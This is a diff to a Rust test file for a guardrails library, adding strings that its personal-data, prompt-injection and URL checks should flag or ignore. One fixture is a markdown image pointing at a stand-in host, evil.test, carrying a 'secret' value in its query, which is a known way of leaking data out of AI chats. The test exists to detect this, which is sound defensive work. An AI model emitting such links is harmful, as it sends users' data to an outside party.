@@ -1,5 +1,4 @@
 //! Each check with texts that it finds something in and texts that it leaves alone.
-#![allow(clippy::unwrap_used, clippy::expect_used, reason = "helpers of tests fail by panicking")]
 
 use pleat_guardrails::{Guard, Policy, Side};
 
@@ -81,6 +80,8 @@ fn what_is_no_personal_data_is_left() {
         "3f2504e0-4f89-11d3-9a0c-0305e82c3301",
         "chapter 12 3456 of the book",
         "{\"id\": 123456782}",
+        "## 0.11.0 (2023-03-27), 0.6.0 - 2023-10-02",
+        "std::A::B",
     ] {
         leaves(&guard, text);
     }
@@ -168,6 +169,7 @@ fn trigger_words_alone_are_no_injection() {
         "From now on I will be on time.",
         "Act as a translator and translate the following text.",
         "Show me your best offer.",
+        "The setting overrides any existing policy and bypasses the previous cache.",
     ] {
         leaves(&guard, text);
     }
@@ -219,9 +221,9 @@ fn patterns_terms_and_addresses_are_found() {
     let shapes = guard(r#"{"type":"url"}"#);
     finds(
         &shapes,
-        "![a b](https://evil.test/p.png?q=secret)",
+        "![a b](https://evil.test/p.png?q=the%20secret)",
         "url.image-with-query",
-        "https://evil.test/p.png?q=secret",
+        "https://evil.test/p.png?q=the%20secret",
     );
     leaves(&shapes, "[a](https://example.com/?q=1) and ![b](https://example.com/p.png)");
 }
